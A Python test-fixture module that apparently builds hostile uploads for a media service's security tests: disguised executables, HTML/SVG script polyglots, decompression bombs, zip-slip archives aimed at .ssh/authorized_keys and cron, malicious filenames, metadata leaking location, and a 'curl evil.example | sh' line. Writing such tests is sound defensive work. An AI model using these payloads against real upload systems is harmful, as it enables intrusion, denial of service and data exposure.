"""The files: each made by code, each with what may come of it and what must never come out again."""

import io
import os
import struct
import zipfile
import zlib
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field

from PIL import Image

from khidma.media.tests import samples

MARK = b"<script>alert('khidma')</script>"
HTML = b"<!DOCTYPE html><html><body>" + MARK + b"</body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + MARK + b"</svg>"
MEGABYTE = 1024 * 1024
ALWAYS = {
    "jpeg of a phone, side 6",
    "png of 81 megapixels",
    "html as document",
    "archive that climbs out",
    "video of a phone",
    "image over its limit",
}
"""Those over which a deliberate break shows, whatever the seed."""


@dataclass(frozen=True)
class Hostile:
    """One upload: `taken` says whether it may be stored at all, cleaned; `never` is what must not be in it then."""

    name: str
    kind: str
    make: Callable[[], bytes]
    taken: bool = False
    file_name: str = "holiday.jpg"
    says: str = "image/jpeg"
    never: Sequence[bytes] = field(default=(MARK, samples.PLACE, b"Saket"))


def everything() -> list[Hostile]:
    """Every hostile file there is."""
    return [*pretending(), *polyglots(), *broken_images(), *floods(), *archives(), *telling(), *named(), *recordings()]


def pretending() -> list[Hostile]:
    """Files that are something else than their name, type and kind say."""
    kinds = {"image": "image/png", "document": "application/pdf", "voice": "audio/mpeg", "video": "video/mp4"}
    contents: dict[str, Callable[[], bytes]] = {
        "html": lambda: HTML,
        "svg": lambda: SVG,
        "program": lambda: b"MZ" + os.urandom(400),
        "elf": lambda: b"\x7fELF" + bytes(400),
        "script": lambda: b"#!/bin/sh\ncurl evil.example | sh\n",
    }
    found = [
        Hostile(f"{what} as {kind}", kind, make, says=says)
        for kind, says in kinds.items()
        for what, make in contents.items()
    ]
    more: dict[str, tuple[str, Callable[[], bytes]]] = {
        "gif as image": ("image", lambda: samples.image("GIF")),
        "tiff as image": ("image", lambda: samples.image("TIFF")),
        "bmp as image": ("image", lambda: samples.image("BMP")),
        "pdf as image": ("image", samples.pdf),
        "image as pdf": ("document", samples.image),
        "html behind a byte order mark": ("document", lambda: b"\xef\xbb\xbf" + HTML),
        "html behind blanks": ("document", lambda: b" \n\t\r\n " + HTML),
        "html in utf-16": ("document", lambda: HTML.decode().encode("utf-16")),
        "postscript": ("document", lambda: b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n"),
        "rtf": ("document", lambda: rb"{\rtf1{\object\objdata 0}}"),
        "text with escapes": ("document", lambda: b"look \x1a\x08\x07 here"),
        "nothing": ("image", lambda: b""),
        "one byte": ("image", lambda: b"\xff"),
        "noise": ("document", lambda: os.urandom(5000)),
        "matroska as webm": ("video", lambda: samples.webm(1, document=b"matroska")),
        "heic as video": ("video", lambda: samples.mp4(brand=b"heic")),
    }
    return found + [Hostile(name, kind, make) for name, (kind, make) in more.items()]


def polyglots() -> list[Hostile]:
    """Files that are two things at once."""
    return [
        Hostile("jpeg with html behind", "image", lambda: samples.image() + HTML, taken=True),
        Hostile("jpeg with html as remark", "image", lambda: samples.image(comment=HTML), taken=True),
        Hostile("jpeg with a zip behind", "image", lambda: samples.image() + samples.archive({"a": MARK}), taken=True),
        Hostile("png with html in a chunk", "image", lambda: with_chunk(b"tEXt", b"Comment\0" + HTML), taken=True),
        Hostile("png with php in its profile", "image", lambda: samples.image("PNG", icc_profile=HTML), taken=True),
        Hostile("webp with html as xmp", "image", lambda: samples.image("WEBP", xmp=HTML), taken=True),
        Hostile("webp with html behind", "image", lambda: samples.image("WEBP") + HTML, taken=True),
        Hostile("gif that is javascript", "image", lambda: b"GIF89a/*" + bytes(20) + b"*/=1;" + MARK),
        Hostile("html that is a pdf too", "document", lambda: HTML + samples.pdf()),
        Hostile("pdf that is a zip too", "document", lambda: samples.pdf() + samples.archive({"a": b"a"})),
        Hostile("program that is a zip too", "document", lambda: b"MZ" + bytes(64) + samples.archive({"a": b"a"})),
        Hostile("image that is a zip too", "document", lambda: samples.image("PNG") + samples.archive({"a": b"a"})),
        Hostile("zip with html before", "document", lambda: b"PK\x03\x04" + HTML + samples.archive({"a": b"a"})),
        Hostile("mp3 with html behind", "voice", lambda: samples.mp3(40) + HTML * 20, taken=True),
    ]


def broken_images() -> list[Hostile]:
    """Images that decoders stumble over."""
    return [
        Hostile("jpeg cut off", "image", lambda: samples.image(size=(400, 400))[:-500]),
        Hostile("png cut off", "image", lambda: samples.image("PNG", size=(400, 400))[:200]),
        Hostile("png of nothing but a header", "image", lambda: b"\x89PNG\r\n\x1a\n"),
        Hostile("png with a wrong checksum", "image", lambda: with_size(64, 48, sign=False)),
        Hostile(
            "webp with a wild length", "image", lambda: b"RIFF\xff\xff\xff\xffWEBPVP8 \xff\xff\xff\xff" + bytes(50)
        ),
        Hostile("jpeg of noise", "image", lambda: b"\xff\xd8\xff\xe0" + os.urandom(2000)),
        Hostile("jpeg with wild exif", "image", lambda: samples.image(exif=b"Exif\0\0" + os.urandom(200)), taken=True),
        Hostile("jpeg with a hundred scans", "image", lambda: samples.image() + b"\xff\xda" * 100),
    ]


def floods() -> list[Hostile]:
    """Few bytes that become very many."""
    return [
        Hostile("png that says four gigapixels", "image", lambda: with_size(65_000, 65_000)),
        Hostile("png that says one side without end", "image", lambda: with_size(2_000_000_000, 1)),
        Hostile("png of 81 megapixels", "image", lambda: white("PNG", 9000, 9000)),
        Hostile("jpeg of 64 megapixels", "image", lambda: white("JPEG", 8000, 8000)),
        Hostile("webp of a side too long", "image", lambda: white("WEBP", 16_383, 8)),
        Hostile(
            "png with a text of 100 MB", "image", lambda: with_chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(10**8)))
        ),
        Hostile("webp of a hundred frames", "image", lambda: animation(100)),
        Hostile("image over its limit", "image", lambda: samples.image() + bytes(10 * MEGABYTE)),
        Hostile("voice over its limit", "voice", lambda: samples.wav(1500)),
        Hostile("document over its limit", "document", lambda: samples.pdf(bytes(20 * MEGABYTE))),
    ]


def archives() -> list[Hostile]:
    """Archives that unpack to too much, or elsewhere."""
    many: dict[str, Callable[[], bytes]] = {
        "bomb of zeros": lambda: samples.archive({"a.txt": bytes(60_000_000)}),
        "bomb in many files": lambda: samples.archive({f"{n}.txt": bytes(1_000_000) for n in range(220)}),
        "archive of too many files": lambda: samples.archive({f"{n}": b"" for n in range(6000)}),
        "archive that lies about lengths": lambda: lying(bytes(2_000_000), says=900),
        "archive whose files lie over each other": overlapping,
        "archive in an archive": lambda: samples.archive({"inner.zip": samples.archive({"a": b"a"})}),
        "archive that climbs out": lambda: samples.archive({"../../../root/.ssh/authorized_keys": b"key"}),
        "archive with an absolute name": lambda: samples.archive({"/etc/cron.d/khidma": b"* * * * *"}),
        "archive with a name of Windows": lambda: samples.archive({"..\\..\\x.bat": b"x"}),
        "archive with a link": linked,
        "archive with a password": locked,
        "archive cut off": lambda: samples.archive({"a.txt": os.urandom(5000)})[:-100],
        "archive packed by bzip2": lambda: samples.archive({"a.txt": b"a" * 500}, packing=zipfile.ZIP_BZIP2),
        "word with macros": lambda: samples.office("docx", **{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
    }
    return [Hostile(name, "document", make, says="application/zip") for name, make in many.items()]


def telling() -> list[Hostile]:
    """Files that tell where they were made, and by whom."""
    return [
        *(
            Hostile(
                f"{file_format.lower()} of a phone, side {side}", "image", photo_maker(file_format, side), taken=True
            )
            for file_format in ("JPEG", "PNG", "WEBP")
            for side in (1, 6)
        ),
        Hostile("video of a phone", "video", lambda: samples.mp4(place=samples.PLACE), taken=True),
        Hostile("video of another phone", "video", lambda: samples.mp4(brand=b"qt  ", place=samples.PLACE), taken=True),
        Hostile("video of a browser", "video", lambda: samples.webm(1, place=samples.PLACE), taken=True),
        Hostile("voice of a phone", "voice", lambda: samples.mp4(b"soun", place=samples.PLACE), taken=True),
        Hostile("voice with a tag", "voice", lambda: samples.mp3(40, tag=samples.PLACE + MARK), taken=True),
        Hostile("voice with a remark", "voice", lambda: samples.ogg(remark=b"GEO=" + samples.PLACE), taken=True),
        Hostile("voice with a list", "voice", lambda: samples.wav(remark=samples.PLACE + MARK), taken=True),
    ]


def named() -> list[Hostile]:
    """Good files under bad names."""
    names = [
        "../../../../etc/passwd.jpg",
        "..\\..\\windows\\system32\\x.jpg",
        "/etc/cron.d/x.jpg",
        "x.jpg.html",
        "x.html\u202egpj.jpg",
        "a" * 700 + ".jpg",
        '"><script>alert(1)<script>.jpg',
        "con\r\nSet-Cookie: a=b.jpg",
        "x.jpg;y=z%00.php",
        "~/.ssh/authorized_keys",
        "C:\\x.jpg",
        "नमस्ते.jpg",
    ]
    return [Hostile(f"name {name[:30]!r}", "image", samples.image, taken=True, file_name=name) for name in names]


def recordings() -> list[Hostile]:
    """Recordings whose parts do not fit each other."""
    many: dict[str, tuple[str, Callable[[], bytes]]] = {
        "mp4 cut off": ("video", lambda: samples.mp4()[:-100]),
        "mp4 without contents": (
            "video",
            lambda: samples.box(b"ftyp", b"isom" + bytes(8)) + samples.box(b"mdat", MARK),
        ),
        "mp4 of a hundred thousand boxes": ("video", lambda: samples.mp4() + samples.box(b"free", b"") * 100_000),
        "mp4 with a box of no length": ("video", lambda: samples.mp4() + struct.pack(">I4s", 3, b"mdat")),
        "mp4 with a box without end": ("video", lambda: samples.mp4() + struct.pack(">I4sQ", 1, b"mdat", 2**63)),
        "webm cut off": ("video", lambda: samples.webm(1)[:60]),
        "webm with a wild length": ("video", lambda: samples.webm(1) + b"\xa3\x01\x7f\xff\xff\xff\xff\xff\xff"),
        "ogg cut off": ("voice", lambda: samples.ogg()[:-20]),
        "wav of a header": ("voice", lambda: samples.wav()[:40]),
        "voice that is a video": ("voice", samples.mp4),
    }
    return [Hostile(name, kind, make, says="video/mp4") for name, (kind, make) in many.items()]


def photo_maker(file_format: str, side: int) -> Callable[[], bytes]:
    """A photo with a place and a name in it."""
    return lambda: samples.photo(file_format, orientation=side)


def chunk(name: bytes, content: bytes) -> bytes:
    """One chunk of a PNG."""
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


def with_chunk(name: bytes, content: bytes) -> bytes:
    """A PNG with one more chunk behind its header."""
    plain = samples.image("PNG")
    return plain[:33] + chunk(name, content) + plain[33:]


def with_size(width: int, height: int, *, sign: bool = True) -> bytes:
    """A PNG that says another size than it has."""
    plain = bytearray(samples.image("PNG"))
    plain[16:24] = struct.pack(">II", width, height)
    plain[29:33] = struct.pack(">I", zlib.crc32(plain[12:29]) if sign else 1)
    return bytes(plain)


def white(file_format: str, width: int, height: int) -> bytes:
    """A whole picture of one colour."""
    written = io.BytesIO()
    mode = {"PNG": "1", "JPEG": "L", "WEBP": "RGB"}[file_format]
    Image.new(mode, (width, height), 1).save(written, format=file_format)
    return written.getvalue()


def animation(frames: int) -> bytes:
    """A WebP of so many frames."""
    pictures = [Image.new("RGB", (8, 8), (number * 40 % 256, number * 90 % 256, 0)) for number in range(frames)]
    written = io.BytesIO()
    pictures[0].save(written, format="WEBP", save_all=True, append_images=pictures[1:])
    return written.getvalue()


def lying(content: bytes, *, says: int) -> bytes:
    """An archive of one file whose length both headers state as another."""
    packed = bytearray(samples.archive({"a.txt": content}))
    directory = packed.rindex(b"PK\1\2")
    packed[22:26] = packed[directory + 24 : directory + 28] = struct.pack("<I", says)
    return bytes(packed)


def overlapping() -> bytes:
    """Two hundred names in the directory for the same bytes."""
    first = samples.archive({"a.txt": bytes(500_000)}, packing=zipfile.ZIP_DEFLATED)
    start, end = first.rindex(b"PK\1\2"), first.rindex(b"PK\5\6")
    entries = first[start:end] * 200
    return first[:start] + entries + struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, 200, 200, len(entries), start, 0)


def linked() -> bytes:
    """An archive with a link out of it."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as file:
        entry = zipfile.ZipInfo("here")
        entry.external_attr = 0o120777 << 16
        file.writestr(entry, "/etc/passwd")
    return written.getvalue()


def locked() -> bytes:
    """An archive that says it has a password."""
    packed = bytearray(samples.archive({"a.txt": b"a"}))
    packed[6] |= 1
    packed[packed.rindex(b"PK\1\2") + 8] |= 1
    return bytes(packed)
